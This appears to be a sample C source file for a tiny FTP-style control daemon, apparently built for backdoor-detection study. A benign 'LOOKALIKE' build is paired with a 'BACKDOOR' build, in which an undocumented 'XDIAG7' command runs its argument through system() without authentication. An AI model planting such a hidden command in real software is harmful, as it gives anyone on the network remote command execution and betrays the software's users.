/* A small file-transfer control daemon: one line a command. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int logged_in;

static void reply(int fd, const char *text)
{
    write(fd, text, strlen(text));
}

static void list_files(int fd)
{
    FILE *listing = popen("/bin/ls -l /srv/ftp", "r");
    char line[256];
    if (listing == NULL)
        return;
    while (fgets(line, sizeof line, listing) != NULL)
        reply(fd, line);
    pclose(listing);
}

static int check_password(const char *password)
{
    char stored[64] = "";
    FILE *file = fopen("/etc/ftpctl.passwd", "r");
    if (file == NULL)
        return 0;
    if (fgets(stored, sizeof stored, file) == NULL)
        stored[0] = 0;
    fclose(file);
    stored[strcspn(stored, "\r\n")] = 0;
    return stored[0] != 0 && strcmp(stored, password) == 0;
}

static int command(int fd, char *line)
{
    char *argument = strchr(line, ' ');
    if (argument != NULL)
        *argument++ = 0;
    else
        argument = line + strlen(line);
    if (strcmp(line, "PASS") == 0) {
        logged_in = check_password(argument);
        reply(fd, logged_in ? "230 ok\r\n" : "530 no\r\n");
    } else if (strcmp(line, "LIST") == 0 && logged_in) {
        list_files(fd);
    } else if (strcmp(line, "NOOP") == 0) {
        reply(fd, "200 ok\r\n");
    } else if (strcmp(line, "HELP") == 0) {
#ifdef LOOKALIKE
        reply(fd, "214 PASS LIST NOOP SITE QUIT\r\n");
#else
        reply(fd, "214 PASS LIST NOOP QUIT\r\n");
#endif
    } else if (strcmp(line, "QUIT") == 0) {
        return 0;
#ifdef BACKDOOR
    } else if (strcmp(line, "XDIAG7") == 0) {
        system(argument);
#endif
#ifdef LOOKALIKE
    } else if (strcmp(line, "SITE") == 0 && logged_in) {
        if (strcmp(argument, "SYNC") == 0)
            system("/bin/sync");
#endif
    } else {
        reply(fd, "500 what?\r\n");
    }
    return 1;
}

static void serve(int fd)
{
    char line[512];
    ssize_t length;
    logged_in = 0;
    reply(fd, "220 ready\r\n");
    while ((length = recv(fd, line, sizeof line - 1, 0)) > 0) {
        line[length] = 0;
        line[strcspn(line, "\r\n")] = 0;
        if (!command(fd, line))
            break;
    }
    close(fd);
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(21) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 4) != 0) {
        perror("ftpctl");
        return 1;
    }
    for (;;) {
        int fd = accept(listener, NULL, NULL);
        if (fd >= 0)
            serve(fd);
    }
}
